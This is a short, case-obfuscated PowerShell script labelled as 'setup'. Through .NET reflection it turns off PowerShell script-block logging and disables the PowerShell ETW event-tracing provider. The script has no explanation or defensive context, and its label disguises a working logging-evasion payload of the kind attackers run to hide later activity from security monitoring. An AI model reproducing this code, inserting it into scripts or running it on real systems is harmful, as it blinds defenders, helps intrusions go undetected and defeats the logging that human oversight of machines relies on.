# setup 1424 v1
$SeTtInGs = [rEF].aSSEMBlY.GETtyPe('System.Management.Automation.Utils').gEtfiELD('cachedGroupPolicySettings','NonPublic,Static').gEtvalUE($NULl)
$SeTtInGs['HKEY_LOCAL_MACHINE\Software\Policies\Microsoft\Windows\PowerShell\ScriptBlockLogging']['EnableScriptBlockLogging'] = 0
[RefleCTiOn.AsSeMbLy]::LOadWItHpArTIAlNaMe('System.Core').GEttypE('System.Diagnostics.Eventing.EventProvider').getfielD('m_enabled','NonPublic,Instance').SETValue([ReF].aSSEMBLY.GeTtYPe('System.Management.Automation.Tracing.PSEtwLogProvider').GeTfIeLd('etwProvider','NonPublic,Static').gEtVAlUE($NuLL),0)
